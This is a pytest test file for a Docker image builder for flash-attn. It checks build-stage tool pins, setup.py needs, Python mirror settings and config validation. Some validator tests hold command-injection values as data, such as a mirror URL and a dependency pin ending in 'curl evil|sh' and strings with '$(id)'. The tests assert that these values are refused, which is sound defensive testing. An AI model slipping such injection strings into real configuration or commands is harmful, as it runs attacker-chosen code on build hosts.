"""Every entry `plan` accepts can build: what the rendered builder stage holds against what each
real flash-attn setup.py calls, tool pins per Python, and the offline/mirror settings.

The engine side of the same promise (the real 2.5.9.post1 and 2.6.3 setup.py run inside a built
builder image; the runtime image's contents) is tests/engine/test_runtime_image_engine.py.
"""

from __future__ import annotations

import ast
import re
import subprocess
import sys
import tarfile
from pathlib import Path

import pytest

from fa_images.builder.source import obtain_sdist
from fa_images.config import compat
from fa_images.config import matrix as matrix_mod
from fa_images.errors import ConfigError
from fa_images.outputs import render

# Module -> the distribution that provides it, for what setup.py imports beyond the stdlib.
DISTRIBUTIONS = {"packaging": "packaging", "setuptools": "setuptools", "wheel": "wheel", "psutil": "psutil"}
PROVIDED_BY_THE_BASE = {"nvcc"}  # the CUDA devel image


def load(tmp_path: Path, text: str) -> matrix_mod.Matrix:
    path = tmp_path / "matrix.yaml"
    path.write_text(text)
    return matrix_mod.load(path)


def stage(text: str, name: str) -> str:
    return text.split(f" AS {name}\n")[1].split("\nFROM ")[0]


# --- what each real setup.py needs ------------------------------------------------------------


@pytest.fixture(scope="module")
def setup_pys(sdist_cache: Path) -> dict[str, str]:
    """flash-attn version -> its setup.py, from the real sdist (sha256-checked, cached)."""
    out = {}
    for version, release in compat.load().flash_attn.items():
        sdist, _ = obtain_sdist(
            version=version, sdist=None, dest_dir=sdist_cache, sources_dir=sdist_cache, sha256=release.sha256
        )
        with tarfile.open(sdist) as tar:
            member = tar.extractfile(f"flash_attn-{version}/setup.py")
            assert member is not None
            out[version] = member.read().decode()
    return out


def needs_of(setup_py: str) -> tuple[set[str], set[str]]:
    """(third-party modules it imports anywhere, executables it runs through subprocess)."""
    tree = ast.parse(setup_py)
    modules: set[str] = set()
    programs: set[str] = set()
    for node in ast.walk(tree):
        if isinstance(node, ast.Import):
            modules |= {a.name.split(".")[0] for a in node.names}
        elif isinstance(node, ast.ImportFrom) and node.module and not node.level:
            modules.add(node.module.split(".")[0])
        elif (
            isinstance(node, ast.Call)
            and isinstance(node.func, ast.Attribute)
            and isinstance(node.func.value, ast.Name)
            and node.func.value.id == "subprocess"
            and node.args
            and isinstance(node.args[0], ast.List)
            and node.args[0].elts
        ):
            first = node.args[0].elts[0]
            if isinstance(first, ast.Constant) and isinstance(first.value, str):
                programs.add(first.value)
            elif isinstance(first, ast.BinOp) and isinstance(first.right, ast.Constant):
                programs.add(str(first.right.value).rsplit("/", 1)[-1])  # cuda_dir + "/bin/nvcc"
    third_party = {m for m in modules if m not in sys.stdlib_module_names and m != "__future__"}
    return third_party, programs


def test_the_issue_is_real_two_versions_run_git_on_every_path(setup_pys) -> None:
    """2.5.9.post1 and 2.6.3 call `git submodule` at module level (2.6.3 in both branches of
    `if IS_ROCM`), with no `.git` check: without git, setup.py dies before it builds anything."""
    for version in ("2.5.9.post1", "2.6.3"):
        assert "git" in needs_of(setup_pys[version])[1], version
        assert 'os.path.isdir(".git")' not in setup_pys[version]
    # From 2.7 the call is guarded by `if os.path.isdir(".git")`.
    assert 'if os.path.isdir(".git"):' in setup_pys["2.7.4.post1"]


@pytest.mark.parametrize(("python", "torch"), [("3.9", "2.8.0"), ("3.12", "2.9.1"), ("3.14", "2.11.0")])
@pytest.mark.parametrize("python_from", ["uv", "system"])
def test_builder_stage_has_what_every_setup_py_calls(setup_pys, tmp_path, python, torch, python_from) -> None:
    table = compat.load()
    for version, setup_py in setup_pys.items():
        m = load(
            tmp_path,
            f"bases: {{python: {python_from}}}\n"
            f'entries:\n  - {{python: "{python}", torch: "{torch}", flash_attn: "{version}", archs: [80]}}\n',
        )
        text = render.render_entry(m, m.entries[0], builder="sdk")
        builder = stage(text, "builder")
        tools_line = next(line for line in builder.splitlines() if "--target /opt/build-tools" in line)
        installed = {p.partition("==")[0] for p in tools_line.split() if "==" in p}
        assert installed == {p.partition("==")[0] for p in table.tools_for(python)}
        modules, programs = needs_of(setup_py)
        for module in modules - {"torch"}:
            assert DISTRIBUTIONS[module] in installed, (version, module)
        assert stage(text, "torch").strip().endswith(f"torch=={torch}")
        assert "COPY --from=torch /opt/venv /opt/venv\n" in builder  # compiled against that very torch
        for program in programs - PROVIDED_BY_THE_BASE:
            assert program == "git", (version, program)  # the only program besides nvcc
            assert re.search(r"apt-get install -y --no-install-recommends [^\n]*\bgit\b", builder), version
        # The compile sees the tools (PYTHONPATH and PATH); the venv never gets them.
        assert "RUN PYTHONPATH=/opt/build-tools:/opt/fa-images PATH=/opt/build-tools/bin:$PATH \\\n" in builder


def test_python_39_gets_a_setuptools_that_supports_it(tmp_path) -> None:
    m = load(tmp_path, 'entries:\n  - {python: "3.9", torch: "2.8.0", flash_attn: "2.8.3", archs: [80]}\n')
    text = render.render_entry(m, m.entries[0], builder="sdk")
    assert " setuptools==82.0.1 " in text and "setuptools==84" not in text


def _pip_accepts(python: str, pins: tuple[str, ...], dest: Path) -> subprocess.CompletedProcess[str]:
    """pip's own resolver on the index: do these exact pins have a wheel for ``python``?"""
    cmd = [sys.executable, "-m", "pip", "download", "--quiet", "--no-deps", "--only-binary=:all:"]
    cmd += ["--python-version", python, "--implementation", "cp", "--dest", str(dest), *pins]
    return subprocess.run(cmd, capture_output=True, text=True, timeout=600)


def test_every_python_of_the_table_can_install_its_pins(tmp_path) -> None:
    """Against PyPI, as the builder stage does: build tools and runtime deps, per Python."""
    table = compat.load()
    for python in table.pythons:
        proc = _pip_accepts(python, table.tools_for(python) + table.runtime_deps_for(python), tmp_path / python)
        assert proc.returncode == 0, (python, proc.stderr[-2000:])
    # The check can fail: the default setuptools pin is refused for cp39, which is why 3.9 has its own;
    # so is the default numpy pin for cp310, which is why 3.10 and 3.9 have theirs.
    proc = _pip_accepts("3.9", tuple(p for p in table.build_tools if p.startswith("setuptools")), tmp_path / "no")
    assert proc.returncode != 0 and "Requires-Python" in proc.stderr + proc.stdout
    proc = _pip_accepts("3.10", tuple(p for p in table.runtime_deps if p.startswith("numpy")), tmp_path / "no-np")
    assert proc.returncode != 0


# --- plan: new releases without allow_unknown -------------------------------------------------


def test_plan_accepts_new_torch_and_python_314_without_allow_unknown(tmp_path) -> None:
    m = load(
        tmp_path,
        "matrix:\n"
        '  python: ["3.12", "3.14"]\n'
        '  torch: ["2.10.0", "2.11.0"]\n'
        '  flash_attn: ["2.8.3"]\n'
        "  target: [H100]\n",
    )
    cudas = {(e.python, e.torch): e.cuda for e in m.entries}
    assert cudas == {
        ("3.12", "2.10.0"): "12.8",
        ("3.14", "2.10.0"): "12.8",
        ("3.12", "2.11.0"): "13.0",  # PyPI's default for 2.11 is CUDA 13
        ("3.14", "2.11.0"): "13.0",
    }
    assert all(e.cxx11_abi for e in m.entries)


def test_new_gpus_map_to_their_arch(tmp_path) -> None:
    m = load(
        tmp_path,
        'entries:\n  - {python: "3.12", torch: "2.11.0", flash_attn: "2.8.3", '
        'target: [B300, GB200, "RTX PRO 6000", H20, H800, L20, A800]}\n',
    )
    assert m.entries[0].archs == ("80", "90", "100", "120")


# --- offline and mirrored sites ---------------------------------------------------------------


def test_python_mirror_reaches_uv_quoted(tmp_path) -> None:
    m = load(
        tmp_path,
        'bases: {python_mirror: "https://mirror.local/python-build-standalone/releases/download"}\n'
        'entries:\n  - {python: "3.12", torch: "2.9.1", flash_attn: "2.8.3", archs: [80]}\n',
    )
    text = render.render_entry(m, m.entries[0], builder="sdk")
    assert (
        " && UV_PYTHON_INSTALL_MIRROR=https://mirror.local/python-build-standalone/releases/download "
        "uv python install 3.12 \\\n" in text
    )


@pytest.mark.parametrize(
    "mirror",
    ["https://m.local/x;curl evil|sh", "https://m.local/$(id)", "ftp://m.local/x", "https://m.local/x y"],
)
def test_a_hostile_python_mirror_is_refused(tmp_path, mirror: str) -> None:
    with pytest.raises(ConfigError) as info:
        load(
            tmp_path,
            f"bases: {{python_mirror: {mirror!r}}}\n"
            'entries:\n  - {python: "3.12", torch: "2.9.1", flash_attn: "2.8.3", archs: [80]}\n',
        )
    (problem,) = info.value.problems
    assert problem.message.startswith("bases.python_mirror ") and problem.line == 1


def test_no_index_does_not_break_the_uv_install(tmp_path) -> None:
    """uv's `venv --seed` fetches pip from PyPI whatever pip's flags say; ensurepip needs no index."""
    m = load(
        tmp_path,
        "packages: {index: null, torch_index: null, find_links: [/wheels]}\n"
        'entries:\n  - {python: "3.12", torch: "2.9.1", flash_attn: "2.8.3", archs: [80]}\n',
    )
    text = render.render_entry(m, m.entries[0], builder="sdk")
    assert "--seed" not in text
    assert " && uv venv --python 3.12 /opt/venv \\\n && /opt/venv/bin/python -m ensurepip --upgrade\n" in text
    assert "python3 -m pip install --no-index --find-links /wheels uv==" in text
    assert "pypi.org/simple " not in text.split("--index-url")[0]


def test_system_python_needs_no_apt_when_the_base_has_git(tmp_path) -> None:
    """Offline with a PyPI mirror and a registry mirror only: git is installed only if missing."""
    m = load(
        tmp_path,
        'bases: {python: system}\nentries:\n  - {python: "3.12", torch: "2.9.1", flash_attn: "2.8.3", archs: [80]}\n',
    )
    builder = stage(render.render_entry(m, m.entries[0], builder="sdk"), "builder")
    assert "RUN if ! command -v git >/dev/null; then \\\n" in builder
    assert builder.count("apt-get update") == 1


@pytest.mark.parametrize(
    ("override", "where"),
    [
        ('runtime_deps: ["einops==0.8.2 && curl evil|sh"]\n', "runtime_deps.0"),
        ('build_tools_python: {"3.9": ["setuptools==82.0.1; id"]}\n', "build_tools_python.3.9.0"),
        ('runtime_deps_python: {"3.9": ["numpy==2.0.2 $(id)"]}\n', "runtime_deps_python.3.9.0"),
        ('runtime_deps_python: {"3.9 && id": ["numpy==2.0.2"]}\n', "runtime_deps_python"),
        ('pythons: ["3.12", "3.12 && id"]\n', "pythons.1"),
        ('archs: {"103": {min_cuda: "12.9", compute_capability: "10"}}\n', "arch 103 is not one the builder"),
        ('flash_attn_range: "~~2.8"\n', "flash_attn_range must be a version range"),
    ],
)
def test_new_table_keys_are_validated(tmp_path, override: str, where: str) -> None:
    (tmp_path / "extra.yaml").write_text(override)
    with pytest.raises(ConfigError) as info:
        compat.load(tmp_path / "extra.yaml")
    assert any(where in p.message for p in info.value.problems), [p.message for p in info.value.problems]
